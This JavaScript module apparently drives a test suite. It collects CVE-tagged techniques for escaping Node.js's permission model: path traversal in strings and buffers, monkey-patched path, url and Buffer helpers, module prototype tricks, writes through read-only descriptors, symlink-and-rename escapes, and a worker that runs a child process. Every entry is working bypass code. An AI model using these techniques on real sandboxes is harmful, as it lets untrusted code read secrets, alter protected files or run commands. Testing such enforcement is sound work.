'use strict';
// Ways around Node's own permission model that were published as CVEs, as far as no other technique has them already.
const fs = require('fs');
const path = require('path');
const url = require('url');

const outside = (ctx) => path.relative(ctx.allowed, ctx.secret);
const through = (ctx) => `${ctx.allowed}/${outside(ctx)}`;

/** The file, asked for while every helper that turns a path into another says that it lies in the granted folder. */
const lied = (object, names, make) => (ctx) => {
  const harmless = `${ctx.allowed}/ok.txt`;
  let attack = () => fs.readFileSync(make(ctx), 'utf8');
  for (const name of names) {
    const inner = attack;
    attack = () => ctx.kit.replaced(object, name, () => harmless, inner);
  }
  return attack();
};

module.exports = [
  { name: 'CVE-2023-30581: the prototype of the main module', wants: 'read', run: (ctx) => process.mainModule.__proto__.require('fs').readFileSync(ctx.secret, 'utf8') },
  { name: 'CVE-2023-30584: two dots behind the granted folder', wants: 'read', run: (ctx) => fs.readFileSync(through(ctx), 'utf8') },
  { name: 'CVE-2023-32004: two dots in a Buffer', wants: 'read', run: (ctx) => fs.readFileSync(Buffer.from(through(ctx)), 'utf8') },
  { name: 'CVE-2023-39332: two dots in a Uint8Array', wants: 'read', run: (ctx) => fs.readFileSync(new Uint8Array(Buffer.from(through(ctx))), 'utf8') },
  { name: 'CVE-2023-32006: createRequire of the class of a module', wants: 'read', run: (ctx) => module.constructor.createRequire(__filename)('fs').readFileSync(ctx.secret, 'utf8') },
  {
    name: 'CVE-2023-39331: replaced helpers of path', wants: 'read',
    run: lied(path, ['resolve', 'normalize', 'toNamespacedPath', 'join', 'relative', 'dirname'], (ctx) => ctx.secret),
  },
  { name: 'CVE-2024-21891: replaced helpers of url', wants: 'read', run: lied(url, ['fileURLToPath', 'urlToHttpOptions', 'fileURLToPathBuffer'], (ctx) => url.pathToFileURL(ctx.secret)) },
  {
    name: 'CVE-2024-21896: replaced methods of Buffer', wants: 'read',
    run: lied(Buffer.prototype, ['toString', 'utf8Slice', 'latin1Slice', 'toLocaleString'], (ctx) => Buffer.from(ctx.secret)),
  },
  { name: 'CVE-2024-21896: what Buffer.prototype.utf8Write writes', wants: 'read', run: lied(Buffer.prototype, ['utf8Write', 'write', 'fill'], (ctx) => Buffer.from(ctx.secret)) },
  {
    name: 'CVE-2024-36137: the owner changed through a descriptor opened for reading', wants: 'write',
    run: (ctx) => { const fd = fs.openSync(ctx.precious, 'r'); try { fs.fchmodSync(fd, 0o600); } finally { fs.closeSync(fd); } },
  },
  {
    name: 'CVE-2025-55132: times changed through a descriptor opened for reading', wants: 'write',
    run: (ctx) => { const fd = fs.openSync(ctx.precious, 'r'); try { fs.futimesSync(fd, 1, 1); } finally { fs.closeSync(fd); } },
  },
  {
    name: 'CVE-2025-55130: a relative link made in a folder that is then moved', wants: 'read',
    run: (ctx) => {
      const deep = `${ctx.allowed}/a/b/c/d`;
      fs.mkdirSync(deep, { recursive: true });
      fs.symlinkSync(`../../../../${outside(ctx)}`, `${deep}/link`);
      fs.renameSync(deep, `${ctx.allowed}/d`);
      const text = [`${ctx.allowed}/d/link`, `${ctx.allowed}/a/b/c/d/link`].map((name) => { try { return fs.readFileSync(name, 'utf8'); } catch { return ''; } });
      fs.mkdirSync(deep, { recursive: true });
      fs.symlinkSync(`../../../../${outside(ctx)}`, `${deep}/link`);
      return text.join('') + fs.readFileSync(`${deep}/link`, 'utf8');
    },
  },
  {
    name: 'CVE-2025-23083: the class of an internal worker on a channel', wants: 'exec', restart: true,
    run: async (ctx) => {
      const { channel } = require('diagnostics_channel');
      const { promise, resolve } = ctx.kit.deferred();
      channel('worker_threads').subscribe(({ worker }) => resolve(worker));
      require('module').register('data:text/javascript,');
      const { Worker } = require('worker_threads');
      try { new Worker('', { eval: true }); } catch {}
      const worker = await Promise.race([promise, ctx.kit.wait(300)]);
      const code = `require('child_process').execFileSync('touch', [${JSON.stringify(ctx.marker)}])`;
      const made = Reflect.construct(worker.constructor, [code, { eval: true }]);
      await new Promise((done) => { made.on('exit', done); });
    },
  },
];
